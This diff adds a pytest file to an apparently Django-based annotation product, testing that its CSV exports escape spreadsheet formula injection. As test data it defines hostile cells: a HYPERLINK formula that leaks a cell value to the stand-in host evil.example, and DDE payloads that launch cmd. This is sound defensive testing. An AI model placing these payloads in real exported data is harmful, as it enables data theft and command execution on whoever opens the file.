@@ -1,0 +1,146 @@
+"""Small leaks and spreadsheet formula injection (issue 43, defects 9 and 10).
+
+- Every CSV the product writes (API downloads, the admin action, management commands) escapes a cell that a
+  spreadsheet would run as a formula, whatever field the hostile text came in by.
+- Learned-metric versions: full details (note, data counts, held-out results, curve) only to admins, whoever
+  started the version, and researchers who own every campaign it trained on; other researchers see the few
+  fields needed to use a succeeded version, and nothing of the others.
+- Testbed runs: the researcher who started a run, and admins; page and websocket alike.
+- An assignment's detail waits for the tutorial, as the page does.
+- Adding annotators answers the same for a missing username and one that is not an annotator.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from tests.probe.conftest import Probe
+
+pytestmark = pytest.mark.django_db
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_SYSTEM = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+HOSTILE_SOURCE_ID = "+cmd|' /C calc'!A0"
+HOSTILE_SOURCE_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_OUTPUT = "-2+3+cmd|' /C calc'!A0"
+HOSTILE_METRIC = "=1+1"
+ROOT = Path(__file__).resolve().parents[2]
+PRODUCT = ("annotation", "core", "evaluation", "metrics", "frontend", "config")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _formula_cells(text: str) -> list[str]:
+    """The cells of a CSV text a spreadsheet would run as formulas (``#`` comment lines skipped)."""
+    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
+    rows = csv.reader(io.StringIO("".join(lines)))
+    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
+
+
+@pytest.fixture
+def hostile(probe: Probe) -> Any:
+    """The probe's campaign with a hostile system name, source id and text, output text and metric name,
+    rated by two raters and scored by that metric."""
+    from annotation.models import Output, OutputJudgement, Source, System
+    from metrics.models import MetricScore
+    from tests.factories import AnnotationFactory, UserFactory
+
+    campaign = probe.campaign
+    System.objects.filter(campaign=campaign, name="Alpha").update(name=HOSTILE_SYSTEM)
+    first = Source.objects.filter(campaign=campaign, is_tutorial=False).order_by("order", "id").first()
+    assert first is not None
+    Source.objects.filter(pk=first.pk).update(external_id=HOSTILE_SOURCE_ID, text=HOSTILE_SOURCE_TEXT)
+    Output.objects.filter(source=first, system__name=HOSTILE_SYSTEM).update(text=HOSTILE_OUTPUT, raw_text="")
+    outputs = list(Output.objects.filter(source__campaign=campaign, source__is_tutorial=False))
+    for n, rater in enumerate(UserFactory.create_batch(2, role="annotator")):
+        for source in campaign.sources.filter(is_tutorial=False):
+            annotation = AnnotationFactory.create(source=source, annotator=rater, submitted_at=timezone.now())
+            OutputJudgement.objects.bulk_create(
+                OutputJudgement(annotation=annotation, output=o, rating=float(10 + 30 * i + n))
+                for i, o in enumerate(o for o in outputs if o.source_id == source.pk)
+            )
+    MetricScore.objects.bulk_create(
+        MetricScore(output=o, metric=HOSTILE_METRIC, signature="probe", value=-0.25) for o in outputs
+    )
+    return campaign
+
+
+CSV_ENDPOINTS = [
+    ("campaign-export", {"type": "csv"}),
+    ("campaign-leaderboard-csv", {}),
+    ("campaign-metric-scores-csv", {}),
+]
+
+
+@pytest.mark.parametrize(("name", "query"), CSV_ENDPOINTS, ids=[n for n, _ in CSV_ENDPOINTS])
+def test_csv_downloads_escape_formulas(name: str, query: dict[str, str], hostile: Any, client_as: Any) -> None:
+    response = client_as("researcher").get(reverse(name, kwargs={"slug": hostile.slug}), query)
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = response.content.decode()
+    assert "'" + HOSTILE_SYSTEM in text.replace('""', '"')  # there, as text
+    assert _formula_cells(text) == []
+
+
+def test_every_csv_endpoint_is_probed() -> None:
+    """A new CSV download must join CSV_ENDPOINTS: every URL whose view answers text/csv is listed."""
+    from tests.probe.urlconf import project_routes
+
+    csv_routes = {r.name for r in project_routes() if r.route.endswith(".csv") or r.name == "campaign-export"}
+    assert csv_routes <= {name for name, _ in CSV_ENDPOINTS}
+
+
+def test_admin_export_action_escapes_formulas(hostile: Any, client_as: Any) -> None:
+    client = client_as("admin")
+    response = client.post(reverse("admin:annotation_campaign_changelist"),
+                           {"action": "export_simpeval", "_selected_action": [hostile.pk]})
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert HOSTILE_SOURCE_TEXT in text
+    assert _formula_cells(text) == []
+
+
+def test_export_command_escapes_formulas(hostile: Any, tmp_path: Path) -> None:
+    from django.core.management import call_command
+
+    out = tmp_path / "export.csv"
+    call_command("export_simpeval", "--campaign", hostile.slug, "--out", str(out), stdout=io.StringIO())
+    text = out.read_text(encoding="utf-8")
+    assert "'" + HOSTILE_OUTPUT in text
+    assert _formula_cells(text) == []
+
+
+def test_meta_evaluation_csv_escapes_formulas() -> None:
+    from metrics.suite.report import render
+
+    result = {"kind": "kendall", "columns": ["all"],
+              "metrics": {HOSTILE_METRIC: {"all": {"value": -0.5, "ci_low": -0.75, "ci_high": -0.25}}}}
+    text = render(result, "csv")
+    assert "'" + HOSTILE_METRIC in text and "-0.500" in text  # numbers stay numbers
+    assert _formula_cells(text) == []
+
+
+def test_no_csv_writer_outside_the_guard() -> None:
+    """Every CSV goes through core.csvsafe.csv_writer: no other product module builds its own writer."""
+    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
+    offenders = [
+        str(path.relative_to(ROOT))
+        for package in PRODUCT
+        for path in (ROOT / package).rglob("*.py")
+        if path.name != "csvsafe.py" and pattern.search(path.read_text(encoding="utf-8"))
+    ]
+    assert offenders == []
